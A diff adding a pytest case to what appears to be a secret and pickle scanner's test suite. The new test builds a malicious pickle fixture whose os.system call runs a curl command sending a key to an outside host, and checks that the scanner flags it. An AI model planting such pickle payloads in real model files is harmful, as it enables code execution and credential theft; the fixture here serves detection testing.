@@ -11,6 +11,7 @@ import pytest
 
 from tests.cases import notebook
 from tests.jupyter.worker.asking import CORPUS, KEY, SETTINGS, Worker
+from tests.model_files.opcodes import call, global_, pickle, text
 
 LEAK = f'x = "{KEY}"\n'
 JSONL = "path rule severity message help cell cell_id part line column end_line end_column raw_line excerpt".split()
@@ -63,6 +64,17 @@ def test_a_file_elsewhere_in_a_repository_has_the_fingerprints_of_the_command_li
     (tmp_path / ".git").mkdir()
     (tmp_path / "root" / "work" / "a.py").write_text(LEAK)
     assert core_part(worker.scan("work/a.py")) == checked(tmp_path / "root", "work/a.py")["work/a.py"]
+
+
+@pytest.mark.parametrize("name", ["model.pkl", "model.pt"])
+def test_a_model_is_looked_into_and_offers_no_change(worker, tmp_path, name):
+    data = pickle(call(global_("os", "system"), text(f"curl -u me:{KEY} https://x.eu")))
+    (tmp_path / "root" / name).write_bytes(data)
+    for content in (None, data):
+        report, _ = worker.ask("scan", name, content)
+        assert {finding["rule"] for finding in report["findings"]} == {"dangerous-pickle-import", "secret-in-model"}
+        assert KEY not in json.dumps(report)
+        assert all(finding["fix"] is finding["ignore"] is None for finding in report["findings"])
 
 
 def test_the_nearest_settings_hold_and_are_read_again(worker, tmp_path):
